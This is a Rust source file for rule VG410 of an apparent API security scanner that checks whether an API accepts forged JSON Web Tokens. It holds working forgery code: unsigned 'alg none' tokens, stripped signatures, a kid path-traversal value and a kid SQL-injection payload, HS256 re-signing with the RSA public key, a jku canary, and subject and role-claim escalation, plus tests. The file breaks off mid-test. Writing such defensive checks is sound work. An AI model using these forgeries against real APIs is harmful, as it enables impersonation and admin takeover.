//! VG410 jwt-forgery-accepted: the API accepts JSON Web Tokens it did not sign — `alg: none`,
//! a stripped signature, a `kid` that points the key lookup at an empty file or at SQL, or an
//! RS256 token re-signed with HS256 using the API's own public key — and a forged token for
//! another user acts as that user.

use std::borrow::Cow;

use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use serde_json::{Map, Value};
use vibeguard_core::{
    ChecklistId, Confidence, EngineId, Evidence, Finding, OwaspApi, RuleDocs, RuleMeta, Severity,
};

use super::jwt::{self, Jwt, Signing};
use super::{Check, Context, Probe, http_evidence, location};
use crate::http::{Exchange, Request};
use crate::spec::Operation;

/// The check.
#[derive(Debug)]
pub struct JwtForgeryAccepted;

static META: RuleMeta = RuleMeta {
    code: Cow::Borrowed("VG410"),
    name: Cow::Borrowed("jwt-forgery-accepted"),
    engine: EngineId::Api,
    summary: Cow::Borrowed("The API accepts JSON Web Tokens it did not sign"),
    severity: Severity::Critical,
    confidence: Confidence::Confirmed,
    cwe: Cow::Borrowed(&[347, 327, 290]),
    owasp_api: Some(OwaspApi::Api2BrokenAuthentication),
    checklist: Cow::Borrowed(&[ChecklistId::Auth07, ChecklistId::Auth04]),
    docs: RuleDocs {
        what: Cow::Borrowed(
            "The first identity's token is re-issued unsigned (`alg: none`, `None`, `NONE`), with \
             its signature stripped, with a `kid` header pointing at `/dev/null` (signed with an \
             empty key) or at an SQL expression, and — for RS/ES/PS tokens whose public key the \
             API publishes at a JWKS address — re-signed with HS256 using that public key. Each is \
             sent to a secured read that accepts the real token and refuses no token. A forged \
             token is also made for the second identity's subject: when it gets the second \
             identity's own answer, anyone can act as anyone. When the target runs on this \
             machine, a token whose `jku` header names vibeguard's canary on 127.0.0.1 is sent \
             too: a server that fetches that key set lets tokens choose their own key. Once a \
             forgery is accepted it becomes an identity of its own: the same forgery goes to every \
             other secured read (up to 24, each also sent without credentials), and — with its role \
             claims (`role`, `roles`, `scope`, `groups`, `is_admin`, …) raised to another \
             identity's, learned from that identity's token, or to the role's name — to the reads \
             reserved for a role (each also sent with the real token). One root finding lists \
             what the forgery opens and which reserved operations the raised token opens that \
             the real one may not: the chain, not one finding per operation. The forgery is also \
             made for every identity's claims, and those tokens are identities of their own for \
             the object and role checks (VG402, VG403), whose findings name the chain.",
        ),
        why: Cow::Borrowed(
            "A token whose signature is not checked is a form the client fills in: change `sub` \
             to any user id or `role` to `admin` and the API believes it.",
        ),
        example_bad: Cow::Borrowed(
            "const claims = jwt.decode(req.headers.authorization.slice(7)); // decode() does not verify\nreq.user = claims;",
        ),
        example_fixed: Cow::Borrowed(
            "req.user = jwt.verify(token, process.env.JWT_SECRET, { algorithms: ['HS256'] });",
        ),
        fix: Cow::Borrowed(
            "Verify every token with the library's verify function, pin the accepted algorithms \
             (never `none`, never both HS and RS for one key), and resolve `kid` only against a \
             fixed set of keys.",
        ),
        references: Cow::Borrowed(&[
            Cow::Borrowed(
                "https://cheatsheetseries.owasp.org/cheatsheets/JSON_Web_Token_for_Java_Cheat_Sheet.html",
            ),
            Cow::Borrowed("https://portswigger.net/web-security/jwt"),
            Cow::Borrowed("https://cwe.mitre.org/data/definitions/347.html"),
        ]),
    },
};

/// Where APIs publish their public keys.
const JWKS_PATHS: &[&str] = &[
    "/.well-known/jwks.json",
    "/jwks.json",
    "/.well-known/openid-configuration/jwks",
    "/oauth/jwks",
    "/api/auth/jwks",
];

fn object(value: Value) -> Map<String, Value> {
    match value {
        Value::Object(map) => map,
        _ => Map::new(),
    }
}

/// The canary path a forged token's `jku` points at.
const JKU_TOKEN: &str = "vg-jku/jwks.json";

/// The forged tokens of the first round, by label.
fn forgeries(own: &Jwt, raw: &str, other_subject: Option<&str>) -> Vec<(String, String)> {
    let mut forged = Vec::new();
    for spelling in ["none", "None", "NONE"] {
        let mut header = own.header.clone();
        header.insert("alg".into(), Value::String(spelling.into()));
        forged.push((
            format!("forged: alg {spelling}"),
            jwt::encode(&header, &own.claims, Signing::Unsigned),
        ));
    }
    if let Some((signed, _)) = raw.rsplit_once('.') {
        forged.push(("forged: stripped signature".into(), format!("{signed}.")));
    }
    let mut header = own.header.clone();
    header.insert("alg".into(), Value::String("HS256".into()));
    header.insert(
        "kid".into(),
        Value::String("../../../../../../../../dev/null".into()),
    );
    forged.push((
        "forged: kid /dev/null with an empty key".into(),
        jwt::encode(&header, &own.claims, Signing::Hmac("HS256", b"")),
    ));
    header.insert(
        "kid".into(),
        Value::String("vibeguard' UNION SELECT 'vibeguard-kid-key' -- ".into()),
    );
    forged.push((
        "forged: kid SQL injection".into(),
        jwt::encode(
            &header,
            &own.claims,
            Signing::Hmac("HS256", b"vibeguard-kid-key"),
        ),
    ));
    if let Some(subject) = other_subject {
        let mut claims = own.claims.clone();
        claims.insert("sub".into(), Value::String(subject.into()));
        let mut header = own.header.clone();
        header.insert("alg".into(), Value::String("none".into()));
        forged.push((
            "forged: unsigned, for the other identity's subject".into(),
            jwt::encode(&header, &claims, Signing::Unsigned),
        ));
    }
    forged
}

/// Most other operations a forged token is tried on, once it is accepted.
const MAX_OPENED: usize = 24;

/// Label prefixes of the chain probes: a forged token on another secured read, the same read
/// without credentials, a forged token with a higher role on a role-reserved operation, and
/// the first identity's real token there.
const OPENS: &str = "opens: ";
const OPENS_REFUSED: &str = "opens, no credentials: ";
const ESCALATES: &str = "escalates: ";
const ESCALATES_OWN: &str = "escalates, own token: ";

/// The same kind of forgery (`label`, of the first round) for other claims.
pub(crate) fn forge(
    label: &str,
    header: &Map<String, Value>,
    claims: &Map<String, Value>,
) -> Option<String> {
    let raw = jwt::encode(header, claims, Signing::Unsigned);
    let token = Jwt::parse(&raw)?;
    forgeries(&token, &raw, None)
        .into_iter()
        .find(|(kind, _)| kind == label)
        .map(|(_, token)| token)
}

/// Claims that say what the caller may do.
const ROLE_CLAIMS: &[&str] = &["role", "roles", "groups", "scope", "scopes", "permissions"];
/// Claims that say the caller is an administrator.
const ADMIN_CLAIMS: &[&str] = &[
    "admin",
    "is_admin",
    "isAdmin",
    "is_staff",
    "isStaff",
    "is_superuser",
];

/// `claims` with the role `role`: the role claims of an identity that holds it (learned from
/// its own token), else every role claim of `claims` set to it (a list keeps its shape) and
/// every admin flag set when the role is an administrator's. `None` when the token carries no
/// such claim: there is nothing to raise.
fn with_role(
    claims: &Map<String, Value>,
    role: &str,
    holder: Option<&Map<String, Value>>,
) -> Option<Map<String, Value>> {
    let mut raised = claims.clone();
    let mut changed = false;
    for name in ROLE_CLAIMS.iter().chain(ADMIN_CLAIMS) {
        let Some(current) = claims.get(*name) else {
            continue;
        };
        let value = match holder.and_then(|held| held.get(*name)) {
            Some(held) => held.clone(),
            None if ADMIN_CLAIMS.contains(name) => {
                if super::role_rank(role) != super::role_rank("admin") {
                    continue;
                }
                Value::Bool(true)
            }
            None => match current {
                Value::Array(_) => Value::Array(vec![Value::String(role.to_string())]),
                Value::String(text) if text.contains(' ') && name.starts_with("scope") => {
                    Value::String(format!("{text} {role}"))
                }
                _ => Value::String(role.to_string()),
            },
        };
        if current != &value {
            raised.insert((*name).to_string(), value);
            changed = true;
        }
    }
    changed.then_some(raised)
}

/// An RSA public key from a JWK as PEM, in the two encodings libraries read
/// (`BEGIN PUBLIC KEY` — SubjectPublicKeyInfo — and `BEGIN RSA PUBLIC KEY` — PKCS#1).
fn rsa_pems(jwk: &Map<String, Value>) -> Vec<String> {
    let decode = |name: &str| {
        jwk.get(name)
            .and_then(Value::as_str)
            .and_then(|v| URL_SAFE_NO_PAD.decode(v.trim_end_matches('=')).ok())
    };
    let (Some(n), Some(e)) = (decode("n"), decode("e")) else {
        return Vec::new();
    };
    let pkcs1 = der_sequence(&[der_integer(&n), der_integer(&e)]);
    // AlgorithmIdentifier rsaEncryption (1.2.840.113549.1.1.1) with NULL parameters.
    let algorithm = [
        0x30, 0x0d, 0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x01, 0x01, 0x05, 0x00,
    ];
    let mut bit_string = vec![0x00];
    bit_string.extend_from_slice(&pkcs1);
    let spki = der_sequence(&[algorithm.to_vec(), der_tagged(0x03, &bit_string)]);
    let pem = |label: &str, der: &[u8]| {
        let body = STANDARD.encode(der);
        let lines: Vec<&str> = body
            .as_bytes()
            .chunks(64)
            .filter_map(|c| std::str::from_utf8(c).ok())
            .collect();
        format!(
            "-----BEGIN {label}-----\n{}\n-----END {label}-----\n",
            lines.join("\n")
        )
    };
    let spki_pem = pem("PUBLIC KEY", &spki);
    let pkcs1_pem = pem("RSA PUBLIC KEY", &pkcs1);
    vec![
        spki_pem.clone(),
        spki_pem.trim_end().to_string(),
        pkcs1_pem.clone(),
        pkcs1_pem.trim_end().to_string(),
    ]
}

fn der_length(len: usize) -> Vec<u8> {
    if len < 0x80 {
        return vec![len as u8];
    }
    let bytes: Vec<u8> = len
        .to_be_bytes()
        .into_iter()
        .skip_while(|b| *b == 0)
        .collect();
    let mut out = vec![0x80 | bytes.len() as u8];
    out.extend(bytes);
    out
}

fn der_tagged(tag: u8, content: &[u8]) -> Vec<u8> {
    let mut out = vec![tag];
    out.extend(der_length(content.len()));
    out.extend_from_slice(content);
    out
}

fn der_integer(unsigned: &[u8]) -> Vec<u8> {
    let trimmed: Vec<u8> = unsigned.iter().copied().skip_while(|b| *b == 0).collect();
    let mut content = Vec::with_capacity(trimmed.len() + 1);
    if trimmed.first().is_none_or(|b| *b & 0x80 != 0) {
        content.push(0);
    }
    content.extend(trimmed);
    der_tagged(0x02, &content)
}

fn der_sequence(items: &[Vec<u8>]) -> Vec<u8> {
    der_tagged(0x30, &items.concat())
}

impl JwtForgeryAccepted {
    /// The token, the operation it is tried on and its request.
    fn setup<'a>(context: &'a Context<'_>) -> Option<(Jwt, &'a str, &'a Operation, Request)> {
        let (_, view, own) = jwt::identity_tokens(context)
            .into_iter()
            .find(|(index, _, _)| *index == 0)?;
        let (operation, request) = jwt::token_target_operation(context)?;
        Some((own, view.token.as_str(), operation, request))
    }
}

impl JwtForgeryAccepted {
    /// Algorithm confusion: the published RSA keys, as HMAC secrets (once).
    fn algorithm_confusion(results: &[(Probe, Exchange)], context: &Context<'_>) -> Vec<Probe> {
        if results
            .iter()
            .any(|(p, _)| p.label.starts_with("forged: HS256 with the public key"))
        {
            return Vec::new();
        }

        let Some((own, _, _, request)) = Self::setup(context) else {
            return Vec::new();
        };
        let view = &context.identities[0];
        let kid = own.header.get("kid").cloned();
        let mut probes = Vec::new();
        for (probe, exchange) in results {
            if !probe.label.starts_with("jwks ") {
                continue;
            }
            let Some(keys) = exchange
                .response()
                .filter(|r| r.is_success())
                .and_then(|r| r.json())
                .and_then(|v| v.get("keys").and_then(Value::as_array).cloned())
            else {
                continue;
            };
            for key in keys.into_iter().map(object) {
                if key.get("kty").and_then(Value::as_str) != Some("RSA")
                    || (kid.is_some() && key.get("kid") != kid.as_ref())
                {
                    continue;
                }
                for (index, pem) in rsa_pems(&key).iter().enumerate() {
                    let mut header = own.header.clone();
                    header.insert("alg".into(), Value::String("HS256".into()));
                    let token =
                        jwt::encode(&header, &own.claims, Signing::Hmac("HS256", pem.as_bytes()));
                    probes.push(Probe {
                        label: format!(
                            "forged: HS256 with the public key ({})",
                            [
                                "SPKI PEM",
                                "SPKI PEM without newline",
                                "PKCS#1 PEM",
                                "PKCS#1 PEM without newline"
                            ][index]
                        ),
                        identity: None,
                        request: jwt::with_token(&request, view, &token),
                    });
                }
            }
        }
        probes
    }

    /// Once a forgery of the first round is accepted: the same forgery on every other secured
    /// read (each also sent without credentials, to show it is refused then), and with its
    /// role claims raised — to another identity's, learned from that identity's token, or to
    /// the role's name — on the operations reserved for a role (reads; each also sent with the
    /// first identity's real token, to show it is refused then). Planned once.
    fn chain(results: &[(Probe, Exchange)], context: &Context<'_>) -> Vec<Probe> {
        if results
            .iter()
            .any(|(p, _)| p.label.starts_with(OPENS) || p.label.starts_with(ESCALATES))
            || !jwt::operation_discriminates(results)
        {
            return Vec::new();
        }
        let Some((own, _, target, _)) = Self::setup(context) else {
            return Vec::new();
        };
        // The first forgery accepted that can be made again for other claims.
        let Some(kind) = results
            .iter()
            .find(|(probe, exchange)| {
                probe.label.starts_with("forged: ")
                    && !["other identity", "jku", "public key"]
                        .iter()
                        .any(|skip| probe.label.contains(skip))
                    && exchange.response().is_some_and(|r| r.is_success())
            })
            .map(|(probe, _)| probe.label.clone())
        else {
            return Vec::new();
        };
        let view = &context.identities[0];
        let mut probes = Vec::new();
        if let Some(token) = forge(&kind, &own.header, &own.claims) {
            for operation in context
                .spec
                .operations
                .iter()
                .filter(|op| {
                    op.method == "GET"
                        && !std::ptr::eq(*op, target)
                        && context.policy.requires_auth(op)
                        && context.policy.required_role(op).is_none()
                })
                .take(MAX_OPENED)
            {
                let Some(request) = context.request(operation, Some(0), 0) else {
                    continue;
                };
                probes.push(Probe {
                    label: format!("{OPENS}{}", operation.label()),
                    identity: None,
                    request: jwt::with_token(&request, view, &token),
                });
                probes.push(Probe {
                    label: format!("{OPENS_REFUSED}{}", operation.label()),
                    identity: None,
                    request,
                });
            }
        }
        let holders = jwt::identity_tokens(context);
        for operation in context
            .spec
            .operations
            .iter()
            .filter(|op| op.method == "GET")
            .take(MAX_OPENED)
        {
            let Some(role) = context.policy.required_role(operation) else {
                continue;
            };
            let holder = holders
                .iter()
                .find(|(_, holder, _)| {
                    holder
                        .role
                        .as_deref()
                        .is_some_and(|r| r.eq_ignore_ascii_case(&role))
                })
                .map(|(_, _, token)| &token.claims);
            let (Some(raised), Some(request)) = (
                with_role(&own.claims, &role, holder),
                context.request(operation, Some(0), 0),
            ) else {
                continue;
            };
            let Some(token) = forge(&kind, &own.header, &raised) else {
                continue;
            };
            probes.push(Probe {
                label: format!("{ESCALATES}{} as {role}", operation.label()),
                identity: None,
                request: jwt::with_token(&request, view, &token),
            });
            probes.push(Probe {
                label: format!("{ESCALATES_OWN}{}", operation.label()),
                identity: Some(0),
                request,
            });
        }
        probes
    }

    /// What the chain proved: the other reads the forgery opens (its answer 2xx, no
    /// credentials refused), and the role-reserved operations a raised forgery opens (its
    /// answer 2xx, the real token refused), with the first such exchange.
    fn chained(results: &[(Probe, Exchange)]) -> (Vec<String>, Vec<String>, Option<&Exchange>) {
        let status = |label: &str| jwt::answer(results, label).and_then(Exchange::status);
        let success = |s: Option<u16>| s.is_some_and(|s| (200..300).contains(&s));
        let refused = |s: Option<u16>| matches!(s, Some(401 | 403));
        let mut opened = Vec::new();
        let mut escalated = Vec::new();
        let mut evidence = None;
        for (probe, exchange) in results {
            if let Some(operation) = probe.label.strip_prefix(OPENS)
                && success(exchange.status())
                && refused(status(&format!("{OPENS_REFUSED}{operation}")))
            {
                opened.push(operation.to_string());
            }
            if let Some(rest) = probe.label.strip_prefix(ESCALATES)
                && let Some((operation, _)) = rest.rsplit_once(" as ")
                && success(exchange.status())
                && refused(status(&format!("{ESCALATES_OWN}{operation}")))
            {
                escalated.push(rest.to_string());
                evidence = evidence.or(Some(exchange));
            }
        }
        (opened, escalated, evidence)
    }
}

impl Check for JwtForgeryAccepted {
    fn meta(&self) -> &'static RuleMeta {
        &META
    }

    fn not_applicable(&self, context: &Context<'_>) -> Option<&'static str> {
        if jwt::identity_tokens(context)
            .iter()
            .all(|(i, _, _)| *i != 0)
        {
            return Some("the first identity's credential is not a JSON Web Token");
        }
        jwt::token_target_operation(context)
            .is_none()
            .then_some("no secured GET operation to try tokens on")
    }

    fn plan_target(&self, context: &Context<'_>) -> Vec<Probe> {
        let Some((own, raw, _, request)) = Self::setup(context) else {
            return Vec::new();
        };
        let view = &context.identities[0];
        let other_subject = jwt::identity_tokens(context)
            .into_iter()
            .find(|(index, _, _)| *index == 1)
            .and_then(|(_, _, token)| token.claim_text("sub"))
            .filter(|sub| own.claim_text("sub").as_ref() != Some(sub));
        let mut probes = jwt::reference_probes(&request, context);
        let mut forged = forgeries(&own, raw, other_subject.as_deref());
        if let Some(canary) = context.canary {
            // A key URL in the token itself: a server that follows it lets the token choose the
            // key that verifies it. The canary records the fetch whatever the answer.
            let mut header = own.header.clone();
            header.insert("alg".into(), Value::String("RS256".into()));
            header.insert("kid".into(), Value::String("vibeguard".into()));
            header.insert("jku".into(), Value::String(canary.url(JKU_TOKEN)));
            forged.push((
                "forged: jku pointing at another key set".into(),
                jwt::encode(
                    &header,
                    &own.claims,
                    Signing::Hmac("HS256", b"vibeguard-jku"),
                ),
            ));
        }
        for (label, token) in forged {
            probes.push(Probe {
                label,
                identity: None,
                request: jwt::with_token(&request, view, &token),
            });
        }
        if !own.alg().starts_with("HS")
            && let Some(base) = context.base.join("/").ok()
        {
            for path in JWKS_PATHS {
                if let Ok(url) = base.join(path.trim_start_matches('/')) {
                    probes.push(Probe {
                        label: format!("jwks {path}"),
                        identity: None,
                        request: Request::new("GET", url),
                    });
                }
            }
        }
        probes
    }

    fn follow_up(
        &self,
        _operation: &Operation,
        results: &[(Probe, Exchange)],
        context: &Context<'_>,
    ) -> Vec<Probe> {
        let mut probes = Self::algorithm_confusion(results, context);
        probes.extend(Self::chain(results, context));
        probes
    }

    fn evaluate(
        &self,
        _operation: &Operation,
        results: &[(Probe, Exchange)],
        context: &Context<'_>,
    ) -> Vec<Finding> {
        let Some((own, _, operation, _)) = Self::setup(context) else {
            return Vec::new();
        };
        let jku_fetched = context.canary.is_some_and(|c| c.was_hit(JKU_TOKEN));
        if !jwt::operation_discriminates(results) && !jku_fetched {
            return Vec::new();
        }
        let accepted: Vec<(&Probe, &Exchange)> = results
            .iter()
            .filter(|(probe, exchange)| {
                probe.label.starts_with("forged: ")
                    && exchange.response().is_some_and(|r| r.is_success())
            })
            .map(|(p, e)| (p, e))
            .collect();
        let jku_probe = results
            .iter()
            .find(|(p, _)| p.label.contains("jku"))
            .map(|(_, e)| e);
        let Some(first) = accepted
            .first()
            .map(|(_, e)| *e)
            .or(jku_probe.filter(|_| jku_fetched))
        else {
            return Vec::new();
        };
        let kinds: Vec<&str> = accepted
            .iter()
            .map(|(p, _)| p.label.trim_start_matches("forged: "))
            .collect();
        let impersonation = accepted.iter().find(|(p, e)| {
            p.label.contains("other identity's subject") && jwt::acts_as_other(results, e)
        });
        let mut message = if kinds.is_empty() {
            format!(
                "{} fetches signing keys from a URL in the token",
                operation.label()
            )
        } else {
            format!(
                "{} accepts tokens it did not sign ({})",
                operation.label(),
                kinds.join("; ")
            )
        };
        if jku_fetched {
            message.push_str(
                "; it fetched the key set named by a forged token's `jku` header (vibeguard's canary on 127.0.0.1 recorded the request): an attacker's key set would verify the attacker's tokens",
            );
        }
        if impersonation.is_some() {
            let other = context
                .identities
                .get(1)
                .map_or("another user", |i| i.name.as_str());
            message.push_str(&format!(
                ": an unsigned token naming {other}'s subject gets {other}'s own answer"
            ));
        }
        let (opened, escalated, escalation) = Self::chained(results);
        if !opened.is_empty() {
            message.push_str(&format!(
                "; the same forgery opens {} other secured operation(s) that refuse no token: {}",
                opened.len(),
                opened.join(", ")
            ));
        }
        if !escalated.is_empty() {
            message.push_str(&format!(
                "; with its role claims raised, it opens operations reserved for a role that {}'s own token may not use: {}",
                context
                    .identities
                    .first()
                    .map_or("the identity", |i| i.name.as_str()),
                escalated.join(", ")
            ));
        }
        let evidence_exchange = impersonation.map_or(first, |(_, e)| *e);
        let mut finding = Finding::new(
            &META,
            location(operation, Some("token".into())),
            message,
            "jwt-forgery",
        )
        .with_evidence(http_evidence(evidence_exchange))
        .with_evidence(Evidence::Text {
            label: "the real token's header and claims".into(),
            text: format!(
                "{}\n{}",
                Value::Object(own.header.clone()),
                Value::Object(own.claims.clone())
            ),
        });
        if let Some(escalation) = escalation {
            finding = finding.with_evidence(http_evidence(escalation));
        }
        if impersonation.is_none()
            && !jku_fetched
            && escalated.is_empty()
            && kinds.iter().all(|k| k.starts_with("kid"))
        {
            finding = finding.with_confidence(Confidence::Firm);
        }
        vec![finding]
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn rsa_public_keys_become_the_pem_texts_libraries_use_as_hmac_keys() {
        // A 512-bit test modulus (not a real key) and e = 65537.
        let jwk = object(serde_json::json!({
            "kty": "RSA",
            "n": "wWQ7ZiFQK0tQGMnxKyYmKsfqHgKNaDv6n7rObLk3KoO3C2mF_oVsAB-Mpd8sX6yxN6TW7IfFdrpGwTZdGwzg1w",
            "e": "AQAB"
        }));
        let pems = rsa_pems(&jwk);
        assert_eq!(pems.len(), 4);
        assert!(pems[0].starts_with("-----BEGIN PUBLIC KEY-----\nMFwwDQYJKoZIhvcNAQEBBQADSwAwSAJBAMFkO2YhUCtLUBjJ8SsmJirH6h4CjWg7"), "{}", pems[0]);
        assert!(pems[0].ends_with("-----END PUBLIC KEY-----\n"));
        assert!(pems[2].starts_with("-----BEGIN RSA PUBLIC KEY-----\nMEgCQQDBZDtmIVArS1AYyfErJiYqx+oeAo1oO/qfus5suTcqg7cLaYX+hWwAH4yl"), "{}", pems[2]);
        assert!(!pems[1].ends_with('\n'));
    }

    #[test]
    fn every_forgery_keeps_the_claims_but_not_a_valid_signature() {
        let header = object(serde_json::json!({"alg": "HS256", "typ": "JWT"}));
        let claims = object(serde_json::json!({"sub": "1", "role": "user"}));
        let raw = jwt::encode(&header, &claims, Signing::Hmac("HS256", b"k"));
        let own = Jwt::parse(&raw).expect("token");
        let forged = forgeries(&own, &raw, Some("2"));
        assert_eq!(forged.len(), 7);
        for (label, token) in &forged {
            let parsed = Jwt::parse(token).unwrap_or_else(|| panic!("{label}: {token}"));
            assert_ne!(parsed.signature, own.signature, "{label}");
        }
        let other = Jwt::parse(&forged[6].1).expect("token");
        assert_eq!(other.claim_text("sub").as_deref(), Some("2"));
        assert_eq!(other.alg(), "none");
    }

    #[test]
    fn a_jku_fetch_recorded_by_the_canary_is_reported_even_when_the_token_is_refused() {
        use crate::checks::testing::{Fixture, exchange, operation};
        use crate::http::canary::Canary;
        use crate::identity::Credential;
        let header = object(serde_json::json!({"alg": "HS256"}));
        let claims = object(serde_json::json!({"sub": "1"}));
        let raw = jwt::encode(&header, &claims, Signing::Hmac("HS256", b"k"));
        let mut fixture = Fixture::new();
        fixture
            .spec
            .operations
            .push(operation("GET", "/api/me", true));
        fixture.identities[0].token = raw.clone();
        fixture.identities[0].credential = Credential::Header {
            name: "Authorization".into(),
            value: format!("Bearer {raw}"),
        };
        let base = url::Url::parse("http://127.0.0.1:9/").expect("url");
        let before = Canary::recorded(base.clone(), Vec::new());
        let mut context = fixture.context();
        context.canary = Some(&before);
        let planned = JwtForgeryAccepted.plan_target(&context);
        let jku = planned
            .iter()
            .find(|p| p.label.contains("jku"))
            .expect("a jku forgery when a canary listens");
        let token = jku
            .request
            .header_value("authorization")
            .and_then(|v| v.strip_prefix("Bearer "))
            .expect("bearer");
        let forged = Jwt::parse(token).expect("token");
        assert_eq!(
            forged.header.get("jku").and_then(Value::as_str),
            Some("http://127.0.0.1:9/vg-jku/jwks.json")
        );
        // Every forgery refused; the reference works.
        let results: Vec<(Probe, Exchange)> = planned
            .iter()
            .map(|probe| {
                let status = if probe.label == "reference" { 200 } else { 401 };
                let mut recorded = exchange("GET", probe.request.url.as_str(), status, &[], "{}");
                recorded.request = probe.request.clone();
                (probe.clone(), recorded)
            })
            .collect();
        let whole = Operation::whole_target();
        assert!(
            JwtForgeryAccepted
                .evaluate(&whole, &results, &context)
                .is_empty()
        );
        let after = Canary::recorded(base, vec!["/vg-jku/jwks.json".into()]);
        context.canary = Some(&after);
        let findings = JwtForgeryAccepted.evaluate(&whole, &results, &context);
        assert_eq!(findings.len(), 1);
        assert!(
            findings[0].message.contains("jku"),
            "{}",
            findings[0].message
        );
    }

    #[test]
    fn an_rs256_token_is_re_signed_with_the_published_key_and_acceptance_is_reported() {
        use crate::checks::testing::{Fixture, exchange, operation};
        use crate::identity::Credential;
        let header = object(serde_json::json!({"alg": "RS256", "kid": "k1"}));
        let claims = object(serde_json::json!({"sub": "1"}));
        // The signature is not checked by anything here: RS256 bytes are just bytes.
        let raw = jwt::encode(&header, &claims, Signing::Hmac("HS256", b"not-rsa"));
        let mut fixture = Fixture::new();
        fixture
            .spec
            .operations
            .push(operation("GET", "/api/me", true));
        fixture.identities[0].token = raw.clone();
        fixture.identities[0].credential = Credential::Header {
            name: "Authorization".into(),
            value: format!("Bearer {raw}"),
        };
        let context = fixture.context();
        let planned = JwtForgeryAccepted.plan_target(&context);
        assert!(
            planned
                .iter()
                .any(|p| p.label == "jwks /.well-known/jwks.json")
        );
        let jwks = r#"{"keys":[{"kty":"RSA","kid":"k1","e":"AQAB","n":"wWQ7ZiFQK0tQGMnxKyYmKsfqHgKNaDv6n7rObLk3KoO3C2mF_oVsAB-Mpd8sX6yxN6TW7IfFdrpGwTZdGwzg1w"}]}"#;
        let mut results: Vec<(Probe, Exchange)> = planned
            .iter()
            .map(|probe| {
                let (status, body) = match probe.label.as_str() {
                    "reference" => (200, "{\"id\":1}"),
                    "jwks /.well-known/jwks.json" => (200, jwks),
                    _ => (401, "{}"),
                };
                (
                    probe.clone(),
                    exchange("GET", probe.request.url.as_str(), status, &[], body),
                )
            })
            .collect();
        let confusion =
            JwtForgeryAccepted.follow_up(&Operation::whole_target(), &results, &context);
        assert_eq!(confusion.len(), 4, "{confusion:?}");
        // The first one is HS256-signed with the SPKI PEM text as the key.
        let value = confusion[0]
            .request
            .header_value("Authorization")
            .unwrap_or_default();
        let forged = Jwt::parse(value.trim_start_matches("Bearer ")).expect("token");
        assert_eq!(forged.alg(), "HS256");
        let pem = rsa_pems(&object(
            serde_json::from_str::<Value>(jwks).expect("json")["keys"][0].clone(),
        ))[0]
            .clone();
        assert_eq!(
            jwt::hmac("HS256", pem.as_bytes(), forged.signing_input.as_bytes()),
            Some(forged.signature.clone())
        );
        // The API accepts the second variant: reported, naming it.
        for (index, probe) in confusion.iter().enumerate() {
            let status = if index == 1 { 200 } else { 401 };
            results.push((
                probe.clone(),
                exchange("GET", probe.request.url.as_str(), status, &[], "{\"id\":1}"),
            ));
        }
        let findings = JwtForgeryAccepted.evaluate(&Operation::whole_target(), &results, &context);
        assert_eq!(findings.len(), 1);
        assert!(
            findings[0]
                .message
                .contains("HS256 with the public key (SPKI PEM without newline)"),
            "{}",
            findings[0].message
        );
        // Without the acceptance, nothing.
        results.retain(|(p, _)| !p.label.starts_with("forged: HS256"));
        assert!(
            JwtForgeryAccepted
                .evaluate(&Operation::whole_target(), &results, &context)
                .is_empty()
        );
    }

    #[test]
    fn an_accepted_forgery_lists_what_it_opens_and_a_raised_role_claim_proves_the_escalation() {
        use crate::checks::testing::{Fixture, answer, operation, rounds};
        use crate::identity::Credential;
        let header = object(serde_json::json!({"alg": "HS256", "typ": "JWT"}));
        let token = |claims: Value| {
            jwt::encode(
                &header,
                &object(claims),
                Signing::Hmac("HS256", b"server-key"),
            )
        };
        let mut fixture = Fixture::new();
        fixture.spec.operations = vec![
            operation("GET", "/api/me", true),
            operation("GET", "/api/notes", true),
            operation("GET", "/api/teams", true),
            operation("GET", "/api/admin/users", true),
        ];
        for (index, (sub, role)) in [("1", "user"), ("2", "admin")].into_iter().enumerate() {
            let raw = token(serde_json::json!({"sub": sub, "role": role}));
            fixture.identities[index].role = Some(role.into());
            fixture.identities[index].token = raw.clone();
            fixture.identities[index].credential = Credential::Header {
                name: "Authorization".into(),
                value: format!("Bearer {raw}"),
            };
        }
        let tokens: Vec<String> = fixture.identities.iter().map(|i| i.token.clone()).collect();
        let context = fixture.context();
        // The server decodes tokens without checking them (`alg: none` passes), except that
        // `/api/teams` really verifies; the admin area wants the `admin` role claim. A probe
        // sent as an identity carries that identity's token (the engine adds it).
        let mut server = |probe: &Probe| {
            let claims = probe
                .request
                .header_value("Authorization")
                .map(|v| v.trim_start_matches("Bearer ").to_string())
                .or_else(|| probe.identity.map(|i| tokens[i].clone()))
                .and_then(|raw| Jwt::parse(&raw))
                .map(|t| (t.alg().to_string(), t.claims));
            let path = probe.request.url.path().to_string();
            match claims {
                None => answer(probe, 401, "{}"),
                Some((alg, _)) if path == "/api/teams" && alg != "HS256" => {
                    answer(probe, 401, "{}")
                }
                Some((_, claims)) if path == "/api/admin/users" => {
                    if claims.get("role") == Some(&Value::String("admin".into())) {
                        answer(probe, 200, "[]")
                    } else {
                        answer(probe, 403, "{}")
                    }
                }
                Some((_, claims)) => answer(
                    probe,
                    200,
                    &format!(
                        "{{\"sub\":{}}}",
                        claims.get("sub").cloned().unwrap_or_default()
                    ),
                ),
            }
        };
        let results = rounds(
            &JwtForgeryAccepted,
            &Operation::whole_target(),
            &context,
            &mut server,
        );
        // The raised token takes the admin's own role claim.
        let raised = results
            .iter()
            .find(|(p, _)| p.label == "escalates: GET /api/admin/users as admin")
            .and_then(|(p, _)| p.request.header_value("Authorization"))
            .and_then(|v| Jwt::parse(v.trim_start_matches("Bearer ")))
            .expect("an escalation probe");
        assert_eq!(raised.claim_text("role").as_deref(), Some("admin"));
        assert_eq!(raised.claim_text("sub").as_deref(), Some("1"));

        let findings = JwtForgeryAccepted.evaluate(&Operation::whole_target(), &results, &context);
        assert_eq!(findings.len(), 1, "one root finding");
        let message = &findings[0].message;
        assert!(
            message.contains(
                "opens 1 other secured operation(s) that refuse no token: GET /api/notes"
            ),
            "{message}"
        );
        assert!(
            message.contains("reserved for a role that alice's own token may not use: GET /api/admin/users as admin"),
            "{message}"
        );
        assert_eq!(findings[0].confidence, Confidence::Confirmed);

        // A server that checks the role on the server side, not from the token: no escalation.
        let mut checks_roles = |probe: &Probe| {
            if probe.request.url.path() == "/api/admin/users" {
                answer(probe, 403, "{}")
            } else {
                server(probe)
            }
        };
        let results = rounds(
            &JwtForgeryAccepted,
